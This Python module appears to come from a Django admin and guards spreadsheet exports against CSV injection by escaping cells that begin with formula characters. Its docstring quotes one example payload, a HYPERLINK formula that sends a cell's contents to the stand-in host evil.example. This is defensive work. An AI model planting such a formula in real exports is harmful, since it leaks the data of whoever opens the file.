"""Spreadsheet files that never run what a cell holds.

A candidate named `=HYPERLINK("http://evil.example/?x="&A1,"click")` exported as is becomes a
live formula when a recruiter opens the file (CSV injection). Every text cell that begins with
a character a spreadsheet reads as a formula (`= + - @`, a tab or a carriage return) is written
with a leading apostrophe, which spreadsheets take as "this is text"; importing such a file
takes the apostrophe off again, so an export imports back unchanged. django-import-export's own
setting only drops a leading "=", which changes the data and misses the other characters.
"""

from __future__ import annotations

from typing import Any

import tablib
from import_export.formats import base_formats

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unescape_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def _map(dataset: tablib.Dataset, cell: Any) -> tablib.Dataset:
    mapped = tablib.Dataset(headers=dataset.headers)
    for row in dataset:
        mapped.append([cell(value) for value in row])
    return mapped


class _Safe(base_formats.TablibFormat):
    """Escapes on export, unescapes on import (put before a tablib format in the bases)."""

    def export_data(self, dataset: tablib.Dataset, **kwargs: Any) -> Any:
        return super().export_data(_map(dataset, escape_cell), **kwargs)

    def create_dataset(self, in_stream: Any, **kwargs: Any) -> tablib.Dataset:
        return _map(super().create_dataset(in_stream, **kwargs), unescape_cell)


class SafeCSV(_Safe, base_formats.CSV):
    pass


class SafeTSV(_Safe, base_formats.TSV):
    pass


# The formats the admin offers: django-import-export's defaults that are installed, with those a
# spreadsheet opens escaped. (XLSX, XLS and ODS need packages Closer does not install.)
FORMATS = [
    f
    for f in (SafeCSV, SafeTSV, base_formats.JSON, base_formats.YAML, base_formats.HTML)
    if f.is_available()
]
